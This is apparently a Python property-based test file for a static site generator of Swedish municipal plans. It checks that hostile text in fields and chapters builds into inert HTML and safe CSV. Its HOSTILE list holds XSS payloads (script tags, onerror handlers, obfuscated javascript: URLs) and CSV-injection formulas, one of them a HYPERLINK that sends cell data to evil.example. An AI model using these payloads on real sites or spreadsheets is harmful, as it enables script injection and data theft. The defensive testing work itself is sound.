"""Property-based: random Unicode, HTML and Markdown in every text field and chapter never reach
the built pages as markup that could act, and never start a formula in a published CSV.

Two levels: many examples through the chapter renderer and the same Markdown the site engine
runs (fast), and a few whole builds of a plan whose every text is random (slow, real engine).
On the parsed output: no element carries a theme id, an ``on*`` handler, a ``javascript:`` or
``data:`` URL, a ``style`` attribute or a form control; no page has duplicate ids; no CSV cell
starts a formula.
"""

from __future__ import annotations

import csv
import json
import shutil
import tempfile
from pathlib import Path

import markdown
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markdown.extensions.toc import TocExtension

from generator.build.pipeline import BuildFailed, build_site
from generator.ingest import markup
from generator.outputs.cells import FORMULA_START, neutralise

from .conftest import ROOT, csv_text, make_package

HOSTILE = [
    "<script>alert(1)</script>", '<div id="__config">{"search":"data:text/javascript,alert(1)"}</div>',
    '<svg style="position:fixed"><a href="https://evil.example">x</a></svg>', '<a class="md-button" href="https://e.x">in</a>',
    "<form><input autofocus onfocus=alert(1)></form>", "<img src=x onerror=alert(1)>", '<p style="display:none">p</p>',
    "[js](javascript:alert(1))", "[js](JaVaScRiPt&#58;alert(1))", "[data](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="&#106;avascript:alert(1)">e</a>', "<iframe src=//e.x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "## __drawer", "# __search", "{: #__toc style=\"color:red\" onclick=alert(1) }", "<h2 id=__consent>h</h2>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "[a](#__config)", "![bild](javascript:alert(1))",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1",
    "| a | b |\n|---|---|\n| <b onclick=x>1</b> | 2 |", "- a\n    - b\n        - c", "> citat\n> > djupare", "`<script>`",
    "<details open ontoggle=alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//e.x/a.css>",
]
THEME = ("__config", "__search", "__drawer", "__toc", "__consent", "__palette", "__nav", "__settings")
#: Never in page content: what runs, loads or asks for input.
ACTIVE = {"script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "style", "link",
          "meta", "base"}
#: Never in a chapter either (generated pages draw their charts as inline SVG).
CHAPTER_ONLY = {"svg", "math", "details"}
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
CHUNKS = st.lists(st.one_of(TEXT, st.sampled_from(HOSTILE)), max_size=10)
SETTINGS = dict(deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def _bad_url(value: str) -> bool:
    squashed = "".join(value.split()).lower()
    return squashed.startswith(("javascript:", "data:", "vbscript:"))


def assert_inert(tags, where: str, chapter: bool = False) -> None:
    """No element in ``tags`` (a page's content) can act, load, ask for input or shadow the theme."""
    for tag in tags:
        assert tag.name not in (ACTIVE | CHAPTER_ONLY if chapter else ACTIVE), (where, str(tag)[:120])
        assert not any(name.lower().startswith("on") for name in tag.attrs), (where, str(tag)[:120])
        assert "style" not in tag.attrs, (where, str(tag)[:120])
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            assert not _bad_url(tag.get(name) or ""), (where, str(tag)[:120])
        assert not (tag.get("id") or "").startswith(THEME), (where, str(tag)[:120])
        if chapter:
            assert not any(c.startswith("md-") for c in tag.get("class") or []), (where, str(tag)[:120])


def engine_html(body: str) -> str:
    """The page body as the site engine turns it into HTML (mkdocs.yml's Markdown extensions)."""
    return markdown.markdown("# Titel\n\n" + body, extensions=[
        "tables", "attr_list", TocExtension(permalink=False, slugify=markup.heading_id)])


@settings(max_examples=300, **SETTINGS)
@given(CHUNKS, st.sampled_from(["\n", "\n\n", " "]))
def test_a_rendered_chapter_is_inert_whatever_it_holds(chunks: list[str], glue: str):
    ctx = markup.ChapterContext("plan", "kapitel", (("01-kapitel.md", "kapitel"),), frozenset({"org.png"}))
    rendered = markup.render(glue.join(chunks), ctx)
    if any(p[3] == "error" for p in rendered.problems):
        assert rendered.body == ""  # nothing of a chapter with an error is published
        return
    soup = BeautifulSoup(engine_html(rendered.body), "html.parser")
    assert_inert(soup.find_all(True), "chapter", chapter=True)
    ids = [t["id"] for t in soup.find_all(id=True)]
    assert len(ids) == len(set(ids)), ids
    assert all(i.startswith(markup.ID_PREFIX) for i in ids if i != "titel"), ids


@settings(max_examples=300, **SETTINGS)
@given(st.one_of(TEXT, st.sampled_from(HOSTILE)))
def test_no_neutralised_cell_starts_a_formula(text: str):
    assume(text)
    out = neutralise(text)
    assert not starts_formula(out), repr(out)
    assert out in (text, "'" + text)


def starts_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a formula sign and is more than a number."""
    return bool(cell) and cell[0] in FORMULA_START and neutralise(cell) != cell


# --- whole builds ---------------------------------------------------------------------------------

PLAN = "slump-testnamnden-2024"
#: Text validation accepts (no control, bidi or zero-width characters: those are refused or
#: warned about, which tests/test_bad_input.py covers), so that the builds here succeed.
PRINTABLE = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf")), max_size=40)
FIELD = st.one_of(PRINTABLE.map(lambda t: "T " + t), st.sampled_from(HOSTILE).map(lambda t: "T " + t),
                  st.sampled_from(HOSTILE))


def _files(texts: list[str]) -> dict[str, str]:
    t = iter(texts)
    goals = csv_text(
        ["goal_id", "parent_id", "level", "level_label", "code", "title", "description", "decided_by", "agenda2030", "crc_articles", "section", "order", "note"],
        [["omrade", "", "area", "", "", next(t), next(t), "", "", "", next(t), "1", next(t)],
         ["mal-1", "omrade", "board_goal", next(t), "", next(t), next(t), "", "", "", "1", "2", next(t)]])
    indicators = csv_text(
        ["indicator_id", "goal_id", "name", "unit", "kind", "direction", "kolada_id", "concordance_key", "decided_by", "measures", "agenda2030", "table_id", "section", "order", "note"],
        [["vantetid", "mal-1", next(t), next(t), "target", "lower", "", "", "", "", "", "", next(t), "1", next(t)]])
    observations = csv_text(
        ["indicator_id", "period", "value_type", "gender", "comparator", "value", "value_max", "printed", "trend", "comparison", "note"],
        [["vantetid", "2022", "utfall", "T", "", "13", "", next(t), "", next(t), next(t)],
         ["vantetid", "2025", "mal", "T", "<=", "", "", next(t), "", "", next(t)]])
    lines = csv_text(["line_id", "table_id", "parent_id", "code", "name", "is_total", "section", "order", "note"],
                     [["a", "drift", "", next(t), next(t), "false", "", "1", next(t)]])
    values = csv_text(["line_id", "column", "period", "value_type", "measure", "amount", "printed", "note"],
                      [["a", next(t), "2024", "budget", "netto", "30.4", next(t), next(t)]])
    return {"goals.csv": goals, "indicators.csv": indicators, "observations.csv": observations,
            "budget_lines.csv": lines, "budget_values.csv": values}


# The same 8 builds every run (a failing build takes minutes to shrink, so CI should not meet a new
# one by chance); raise max_examples and drop derandomize to explore: 60 builds passed when written.
@settings(max_examples=8, derandomize=True, **SETTINGS)
@given(st.lists(FIELD, min_size=30, max_size=30), st.lists(st.one_of(PRINTABLE, st.sampled_from(HOSTILE)), max_size=10))
def test_a_built_site_of_random_text_is_inert(texts: list[str], chapter: list[str]):
    root = Path(tempfile.mkdtemp(prefix="slump-"))
    try:
        shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
        shutil.copytree(ROOT / "site_theme", root / "site_theme")
        plan = {"municipality": "Värnamo", "municipality_code": "0683", "board": texts[26], "title": texts[27],
                "document_type": "verksamhetsplan", "period_start": 2024, "period_end": 2025, "data_start": 2022,
                "source": {"title": texts[28]}, "notes": [texts[29]]}
        make_package(root, PLAN, files=_files(texts), plan=plan)
        folder = root / "content" / PLAN
        folder.mkdir(parents=True)
        (folder / "01-kapitel.md").write_text(f"---\ntitle: {json.dumps(texts[0])}\n---\n\n" + "\n\n".join(chapter),
                                              encoding="utf-8")
        try:
            site = build_site(root, root / "site").site_dir
        except BuildFailed as exc:  # only texts validation refuses on purpose may stop the build
            refused = {p.code for p in exc.report.errors} if exc.report else {"engine"}
            assert refused <= {"control-character", "bidi-control", "binary-file", "constraint-error", "chapter-too-deep",
                               "chapter-broken-link", "chapter-missing-image", "chapter-external-image"}, exc.report
            assume(False)
        for path in site.rglob("*.html"):
            page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
            ids = [t["id"] for t in page.find_all(id=True)]
            assert len(ids) == len(set(ids)), (path, sorted({i for i in ids if ids.count(i) > 1}))
            for tag in page.find_all(True):
                assert not any(name.lower().startswith("on") for name in tag.attrs), (path, str(tag)[:120])
                for name in ("href", "src"):
                    assert not _bad_url(tag.get(name) or ""), (path, str(tag)[:120])
            article = page.select_one("article")
            if article is not None:
                assert_inert(article.find_all(True), str(path), chapter="/text/" in path.as_posix())
        for path in site.rglob("*.csv"):
            with path.open(encoding="utf-8", newline="") as fh:
                for row in csv.reader(fh):
                    assert not [c for c in row if starts_formula(c)], (path, row)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_unit_or_name_with_a_line_break_still_draws_its_chart():
    """Found by the whole-build property test: a line break in the unit broke the chart engine's
    expressions and so the build."""
    from decimal import Decimal

    from generator.model.plan import Indicator, Observation
    from generator.render import charts

    obs = (Observation(indicator_id="i", period=2022, value_type="utfall", gender="T", value=Decimal(5)),
           Observation(indicator_id="i", period=2023, value_type="utfall", gender="T", value=Decimal(6)))
    ind = Indicator(indicator_id="i", goal_id="", name="Andel\nelever", unit="procent\r\nav alla", kind="monitoring",
                    order=1, observations=obs)
    svg = charts.to_svg(charts.indicator_chart(ind, lang="sv"), "Andel elever", "beskrivning", "diagram-i")
    assert svg.startswith("<svg") and "procent av alla" in svg
